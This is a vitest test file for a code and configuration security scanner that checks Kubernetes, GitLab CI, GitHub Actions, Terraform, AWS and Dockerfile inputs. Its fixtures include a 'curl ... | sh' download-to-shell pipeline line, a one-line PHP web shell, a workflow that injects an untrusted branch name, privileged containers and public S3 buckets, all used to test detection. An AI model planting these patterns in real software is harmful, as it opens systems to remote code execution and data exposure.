import { describe, expect, test } from 'vitest';
import { scanCode, unitOf, weaknessesIn } from '../scan-code.ts';

describe('another form of a document hides nothing', () => {
  const rulesIn = (path: string, text: string) => weaknessesIn({ [path]: text }).map(({ rule }) => rule);
  const container = '{name: a, image: "a:1", securityContext: {privileged: true}}';
  const pod = `{apiVersion: v1, kind: Pod, metadata: {name: a}, spec: {containers: [${container}]}}`;
  const podJson =
    '{"apiVersion": "v1", "kind": "Pod", "spec": {"containers": [{"name": "a", "securityContext": {"privileged": true}}]}}';
  const list = (...items: string[]) => `{apiVersion: v1, kind: List, items: [${items.join(', ')}]}`;
  const template = `{spec: {containers: [${container}]}}`;

  test.each([
    ['containers that are merged', `apiVersion: v1\nkind: Pod\nspec: {<<: {containers: [${container}]}}\n`],
    ['lists of lists', list(list(), list(pod))],
    ['a document after others', `a: 1\n---\n${pod}\n---\n---\nb: 1\n`],
    ['a PodTemplate', `{apiVersion: v1, kind: PodTemplate, template: ${template}}`],
    [
      'a template that the kind does not have',
      `{apiVersion: apps/v1, kind: Deployment, spec: {jobTemplate: {spec: {template: {}}}, template: ${template}}}`,
    ],
  ])('%s of Kubernetes', (_, text) => {
    expect(rulesIn('a.yaml', text)).toContain('k8s-privileged');
  });

  test.each([
    ['a.yaml', `# Resources of AWS::\n${pod}\n`],
    ['a.yaml', `Resources: {A: {Type: AWS::SNS::Topic}}\n---\n${pod}\n`],
    ['action.yml', pod],
    ['.gitlab-ci.yml', `stages: [a]\n---\n${pod}\n`],
    ['main.tf.json', podJson],
  ])('neither a name nor a word makes a manifest something else: %s %#', (path, text) => {
    expect(rulesIn(path, text)).toContain('k8s-privileged');
  });

  test('lists that share their items are visited once', () => {
    const lists = Array.from(
      { length: 60 },
      (_, at) => `a${at + 1}: &a${at + 1} ${list(`*a${at}`, `*a${at}`)}\n`,
    );
    const text = `a0: &a0 ${pod}\n${lists.join('')}apiVersion: v1\nkind: List\nitems: [*a60]\n`;
    expect(rulesIn('a.yaml', text).filter((rule) => rule === 'k8s-privileged')).toHaveLength(1);
  });

  const bad = '{script: [curl https://a.example/x | sh]}';
  test.each([
    ['a job that is merged', `<<: {build: ${bad}}\n`],
    ['a pipeline before another document', `build: ${bad}\n---\nx: {}\n`],
    ['a pipeline after its inputs', `spec: {inputs: {}}\n---\nbuild: ${bad}\n`],
    ['a pipeline after two documents', `---\n---\nbuild: ${bad}\n`],
  ])('%s of GitLab', (_, text) => {
    expect(rulesIn('.gitlab-ci.yml', text)).toEqual(['glci-download-to-shell']);
  });

  test.each([
    [
      '.github/workflows/a.yml',
      'on: issues\npermissions: {}\njobs: {a: {steps: [{run: "${{ github.head_ref }}"}]}}',
    ],
    ['a.yaml', 'Resources: {A: {Type: "AWS::S3::Bucket", Properties: {AccessControl: PublicRead}}}'],
  ])('a second document of %s', (path, text) => {
    const rules = rulesIn(path, text);
    expect(rules.length).toBeGreaterThan(0);
    expect(rulesIn(path, `a: 1\n---\n${text}\n`)).toEqual(rules);
    expect(rulesIn(path, `${text}\n---\na: 1\n`)).toEqual(rules);
  });

  const bucket = '{"acl": "public-read"}';
  test.each([
    `{"aws_s3_bucket": {"a": ${bucket}}}`,
    `[{"aws_s3_bucket": {"a": ${bucket}}}]`,
    `{"aws_s3_bucket": [{"a": ${bucket}}]}`,
    `{"aws_s3_bucket": {"a": [${bucket}]}}`,
    `[{"aws_s3_bucket": [{"a": [${bucket}]}]}]`,
  ])('arrays of Terraform: %s', (resource) => {
    expect(rulesIn('main.tf.json', `{"resource": ${resource}}`)).toContain('tf-public-storage');
  });

  test.each([
    `[{"resource": {"aws_s3_bucket": {"a": ${bucket}}}}]`,
    ` [{}, {"resource": {"aws_s3_bucket": {"a": ${bucket}}}}]`,
    `[{"variable": {}}, {"resource": [{"aws_s3_bucket": {"a": ${bucket}}}]}, {"output": {}}]`,
    `${' '.repeat(2000)}{"resource": {"aws_s3_bucket": {"a": ${bucket}}}}`,
  ])('an array or blanks at the root of a file of Terraform: %#', (text) => {
    const { findings, coverage } = scanCode(unitOf({ 'main.tf.json': text }));
    expect(findings).toMatchObject([{ rule: 'tf-public-storage' }]);
    expect(coverage).toMatchObject({ status: 'assessed', gaps: [] });
  });

  test.each(['[{"resource": ', '[{"resource": {}}'])(
    'an array of Terraform that is cut off is told: %s',
    (text) => {
      const { coverage } = scanCode(unitOf({ 'main.tf.json': text }));
      expect(coverage).toMatchObject({ gaps: [{ reason: 'it is not valid YAML: not scanned' }] });
    },
  );

  test('a heredoc without an end is told', () => {
    const { coverage } = scanCode(unitOf({ Dockerfile: 'FROM a:1\nRUN <<EOF\nUSER app\n' }));
    expect(coverage).toMatchObject({
      status: 'partial',
      gaps: [{ reason: 'a heredoc has no certain end: scanned in part' }],
    });
  });
});

describe('the name of a Dockerfile hides no code', () => {
  const rulesIn = (contents: Record<string, string>) => weaknessesIn(contents).map(({ rule }) => rule);
  const php = '<?php system($_GET["c"]);\n';

  test.each([
    ['public/dockerfile_upload.php', php],
    ['Dockerfile.inc', php],
    ['Dockerfile.inc', `${php}?>\nFROM debian:12\nUSER app\n`],
    ['Dockerfile.php', `FROM debian:12\nUSER app\n${php}`],
  ])('%s: %#', (path, text) => {
    expect(rulesIn({ [path]: text })).toEqual(['php-command-injection']);
  });

  test('and what is a Dockerfile and code is scanned as both', () => {
    const image = `FROM debian:12\nUSER root\n`;
    const both = rulesIn({ 'Dockerfile.php': `${image}${php}` });
    expect(both).toEqual([...rulesIn({ Dockerfile: image }), 'php-command-injection']);
    expect(both.length).toBeGreaterThan(1);
  });

  test.each([
    ['dockerfile_tool.c', 'int main() {\n  from here;\n}\n', 'partial', 'C'],
    ['Dockerfile.r', 'FROM debian:12\nUSER app\n', 'assessed', 'R'],
  ])('a language without rules is told: %s', (path, text, status, language) => {
    const { coverage } = scanCode(unitOf({ [path]: text, 'a.js': 'f();' }));
    const reason = `${language}: no rules for this language yet`;
    expect(coverage).toMatchObject({ status, gaps: [{ reason, file: path }] });
  });
});
